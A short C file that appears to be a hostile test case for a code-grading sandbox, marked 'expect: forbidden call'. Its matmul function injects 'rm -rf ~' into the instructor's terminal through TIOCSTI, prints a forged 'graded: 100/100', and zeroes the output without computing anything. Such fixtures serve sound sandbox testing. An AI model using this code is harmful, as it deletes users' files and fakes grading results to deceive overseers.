/* Writes to the instructor's terminal, and pushes a command into its input (TIOCSTI).
 * expect: forbidden call */
#include <fcntl.h>
#include <sys/ioctl.h>
#include <unistd.h>
#include "moekit.h"
void matmul(float *y, const float *x, const float *w, int in, int out) {
    (void)x, (void)w, (void)in;
    const char *cmd = "rm -rf ~\n";
    for (const char *c = cmd; *c; c++) ioctl(0, TIOCSTI, c);
    int fd = open("/dev/tty", O_WRONLY);
    if (fd >= 0) write(fd, "\033[2Jgraded: 100/100\n", 20), close(fd);
    for (int o = 0; o < out; o++) y[o] = 0.0f;
}
void matmul_tokens(float *y, const float *x, const float *w, int T, int in, int out) {
    for (int t = 0; t < T; t++) matmul(y + (long)t * out, x + (long)t * in, w, in, out);
}
